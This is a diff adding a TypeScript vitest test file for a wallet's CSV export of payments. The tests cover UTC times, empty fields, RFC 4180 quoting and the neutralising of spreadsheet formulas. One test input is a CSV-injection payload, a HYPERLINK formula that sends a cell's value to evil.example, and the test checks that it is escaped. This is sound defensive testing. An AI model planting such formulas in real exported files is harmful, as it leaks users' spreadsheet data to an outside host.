@@ -1,0 +1,46 @@
+import { expect, test } from 'vitest';
+import type { ExportedActivity } from '../../protocol/wallet-messages.ts';
+import { CSV_START, csvLines } from './csv.ts';
+
+const TXID = 'ab'.repeat(32);
+const sent: ExportedActivity = {
+  id: '0b0e7a3c-0000-4000-8000-000000000001', direction: 'sent', origin: 'https://shop.example', counterparty: 'bob@pay.example', recipientCount: 1, satoshis: '200000', feeSatoshis: '12',
+  amount: '0.10', currency: 'USD', status: 'COMPLETED', statusDescription: null, txid: TXID, time: Date.UTC(2026, 10, 21, 4, 5, 6, 7), recipients: [{ to: 'bob@pay.example', satoshis: '200000' }],
+  height: 812_345, buttonId: 'article-7',
+};
+
+test('a payment in one line, in UTC, every amount as plain digits', () => {
+  expect(csvLines([sent])).toBe(
+    `2026-11-21T04:05:06.007Z,sent,COMPLETED,https://shop.example,bob@pay.example,0.10,USD,200000,12,${TXID},812345,${sent.id},article-7\r\n`,
+  );
+});
+
+test('money received, not confirmed: what it has not is empty', () => {
+  const received: ExportedActivity = { ...sent, id: TXID, direction: 'received', origin: null, status: 'RECEIVED', amount: null, currency: null, feeSatoshis: null, height: null, buttonId: null, recipients: [{ to: 'mAddress', satoshis: '5' }], satoshis: '5' };
+  expect(csvLines([received])).toBe(`2026-11-21T04:05:06.007Z,received,RECEIVED,,mAddress,,,5,,${TXID},,,\r\n`);
+});
+
+test('several recipients, each with what it got', () => {
+  const recipients = [{ to: 'a@x.example', satoshis: '1' }, { to: '42', satoshis: '2' }];
+  expect(csvLines([{ ...sent, recipients }])).toContain(',a@x.example (1 satoshis); 42 (2 satoshis),');
+});
+
+test('the file begins with a byte order mark and the names of the columns', () => {
+  expect(CSV_START).toBe('\uFEFFtime,direction,status,site,recipients,amount,currency,satoshis,fee satoshis,txid,block height,payment id,button id\r\n');
+});
+
+test.each([
+  ['a,b', '"a,b"'], ['say "hi"', '"say ""hi"""'], ['two\r\nlines', '"two\r\nlines"'], ['two\nlines', '"two\nlines"'], ['plain; text', 'plain; text'], ['żółć 💸', 'żółć 💸'], ['', ''],
+])('RFC 4180: %j becomes %j', (buttonId, cell) => {
+  expect(csvLines([{ ...sent, buttonId }]).endsWith(`,${cell}\r\n`)).toBe(true);
+});
+
+test.each(['=1+1', '+1', '-1', '@SUM(A1)', ' =1+1', '\t=1', '\r=1', '\n=1', '＝1', '=HYPERLINK("https://evil.example?"&A1,"x")'])('a formula is made text: %j', (buttonId) => {
+  const [, cell = ''] = /article-0,(.*)$/s.exec(csvLines([{ ...sent, id: 'article-0', buttonId }]).replace(/\r\n$/, '')) ?? [];
+  expect(cell.replace(/^"/, '').startsWith(`'${buttonId[0]}`)).toBe(true);
+});
+
+test('a formula in a recipient or a site is made text too', () => {
+  const line = csvLines([{ ...sent, origin: '=1', recipients: [{ to: '@a', satoshis: '1' }] }]);
+  expect(line).toContain(",'=1,'@a,");
+});
